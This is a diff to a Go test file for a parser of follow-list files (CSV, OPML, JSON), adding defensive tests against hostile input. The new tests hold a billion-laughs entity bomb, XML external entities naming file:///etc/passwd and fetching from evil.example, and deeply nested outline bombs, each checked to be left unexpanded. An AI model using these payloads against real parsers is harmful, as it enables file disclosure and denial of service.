@@ -26,7 +26,7 @@ func TestFilesAreRead(t *testing.T) {
 		}
 		t.Run(filepath.Base(file), func(t *testing.T) {
 			t.Parallel()
-			result, err := Read([]byte(golden.Text(t, filepath.Base(file))))
+			result, err := read([]byte(golden.Text(t, filepath.Base(file))))
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -89,7 +89,7 @@ func TestWhatAFileIsShowsInItsContent(t *testing.T) {
 		{"settings alone", `{"vitrine":1,"settings":{}}`, "vitrine:"},
 		{"a link of Markdown first", "[Ada](https://a.example/@ada)", "text: @ada@a.example"},
 	} {
-		if got := short(Read([]byte(g.file))); got != g.want {
+		if got := short(read([]byte(g.file))); got != g.want {
 			t.Errorf("%s\n got %s\nwant %s", g.name, got, g.want)
 		}
 	}
@@ -122,6 +122,8 @@ func TestBadFilesAreRefused(t *testing.T) {
 		{"no version", `{"vitrine":0,"follows":["@ada@a.example"]}`, "BadData"},
 		{"a wrong version", `{"vitrine":"x"}`, "BadData"},
 		{"too long a file", strings.Repeat("a", MaxSize+1), "TooLarge"},
+		{"fifty megabytes", "<opml>" + strings.Repeat(`<outline xmlUrl="https://a.example/f"/>`, 50<<20/39), "TooLarge"},
+		{"three thousand folders in each other, too often", "<opml>" + many(MaxEntries+1, `<outline text="%d">`), "TooLarge"},
 		{"too many entries", many(MaxEntries+1, "u%d@a.example\n"), "TooLarge"},
 		{"too many rows", "Account address\n" + many(MaxEntries+1, "u%d@a.example\n"), "TooLarge"},
 		{"too many outlines", "<opml>" + many(MaxEntries+1, `<outline xmlUrl="https://a.example/%d.xml"/>`) + "</opml>", "TooLarge"},
@@ -129,23 +131,50 @@ func TestBadFilesAreRefused(t *testing.T) {
 		{"too many repetitions", strings.Repeat("@ada@a.example ", maxLooks+1), "TooLarge"},
 		{"too many items", "[" + many(MaxEntries+1, `"u%d@a.example",`) + `"x"]`, "TooLarge"},
 	} {
-		if got := short(Read([]byte(g.file))); got != g.want {
+		if got := short(read([]byte(g.file))); got != g.want {
 			t.Errorf("%s: %.300s, want %s", g.name, got, g.want)
 		}
+	}
+}
+
+func TestEntitiesOfHostileFilesNeitherGrowNorNameFiles(t *testing.T) {
+	t.Parallel()
+	laughs := `<!DOCTYPE opml [<!ENTITY l0 "ha">`
+	for i := range 30 {
+		laughs += fmt.Sprintf(`<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
+	}
+	for name, declaration := range map[string]string{
+		"&l30;":  laughs + `]>`,
+		"&file;": `<!DOCTYPE opml [<!ENTITY file SYSTEM "file:///etc/passwd">]>`,
+		"&away;": `<!DOCTYPE opml [<!ENTITY away PUBLIC "x" "https://evil.example/x"> <!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>`,
+	} {
+		r, err := read([]byte(declaration + `<opml><body><outline text="` + name + `" xmlUrl="https://a.example/f"/><outline xmlUrl="` + name + `"/></body></opml>`))
+		if err != nil || len(r.Entries) != 1 || r.Entries[0].Title != name || len(r.Unread) != 1 || r.Unread[0].Text != name {
+			t.Errorf("%s: %+v, %v", name, r, err)
+		}
+	}
+}
+
+func TestFoldersDeepInEachOtherAreRead(t *testing.T) {
+	t.Parallel()
+	const deep = 9000
+	r, err := read([]byte("<opml>" + strings.Repeat(`<outline text="a">`, deep) + `<outline xmlUrl="https://a.example/f"/>` + strings.Repeat("</outline>", deep) + "</opml>"))
+	if got := short(r, err); got != "opml: feed:https://a.example/f/a" {
+		t.Error(got)
 	}
 }
 
 func TestManyOfTheSameAreOneEntry(t *testing.T) {
 	t.Parallel()
 	file := strings.Repeat("ada@a.example\n", MaxEntries+5)
-	if got := short(Read([]byte(file))); got != "text: @ada@a.example" {
+	if got := short(read([]byte(file))); got != "text: @ada@a.example" {
 		t.Errorf("%.100s", got)
 	}
 }
 
 func TestLinesThatWereNotReadAreCounted(t *testing.T) {
 	t.Parallel()
-	r, err := Read([]byte("Account address\n" + strings.Repeat("nobody\n", maxUnread+7)))
+	r, err := read([]byte("Account address\n" + strings.Repeat("nobody\n", maxUnread+7)))
 	if err != nil || len(r.Unread) != maxUnread || r.MoreUnread != 7 || r.Unread[0] != (Unread{2, "nobody", NoServer}) {
 		t.Errorf("%d, %d, %v", len(r.Unread), r.MoreUnread, err)
 	}
@@ -163,7 +192,7 @@ func TestUTF16IsRead(t *testing.T) {
 	for name, file := range map[string]string{
 		"little": "\xff\xfe" + little.String(), "big": "\xfe\xff" + big.String(), "little, unmarked": little.String(), "big, unmarked": big.String(),
 	} {
-		if got := short(Read([]byte(file))); got != "following-csv: @ada@xn--bcher-kva.example+hide" {
+		if got := short(read([]byte(file))); got != "following-csv: @ada@xn--bcher-kva.example+hide" {
 			t.Errorf("%s: %s", name, got)
 		}
 	}
@@ -179,11 +208,11 @@ func TestHostileTextIsNeverAnAddress(t *testing.T) {
 		{`<opml><outline xmlUrl="file:///etc/passwd"/><outline xmlUrl="https://u:p@a.example/f"/><outline xmlUrl="//"/></opml>`,
 			"opml: 1=noaddress 1=noaddress 1=noaddress"},
 	} {
-		if got := short(Read([]byte(g.file))); got != g.want {
+		if got := short(read([]byte(g.file))); got != g.want {
 			t.Errorf("%q\n got %s\nwant %s", g.file, got, g.want)
 		}
 	}
-	r, err := Read([]byte("<opml><outline text='a&#0;\u202eb\x01\n c' xmlUrl='https://a.example/f.xml'/></opml>"))
+	r, err := read([]byte("<opml><outline text='a&#0;\u202eb\x01\n c' xmlUrl='https://a.example/f.xml'/></opml>"))
 	if err != nil || len(r.Entries) != 1 || r.Entries[0].Title != "a \u202eb c" {
 		t.Errorf("%+v, %v", r, err)
 	}
@@ -216,7 +245,7 @@ func TestHostileFilesTakeNoTime(t *testing.T) {
 		"types":           `{"type":[` + fill(`"Collection",`) + `"x"],"items":[]}`,
 	} {
 		start := time.Now()
-		_, _ = Read([]byte(file))
+		_, _ = read([]byte(file))
 		if d := time.Since(start); d > 20*time.Second {
 			t.Errorf("%s took %s", name, d)
 		}
@@ -269,7 +298,7 @@ func BenchmarkReadFollows(b *testing.B) {
 	for name, file := range map[string][]byte{"CSV": csv, "OPML": WriteOPML("x", entries, nil), "JSON": own} {
 		b.Run(name, func(b *testing.B) {
 			for b.Loop() {
-				if r, err := Read(file); err != nil || len(r.Entries) != len(entries) {
+				if r, err := read(file); err != nil || len(r.Entries) != len(entries) {
 					b.Fatal(len(r.Entries), err)
 				}
 			}
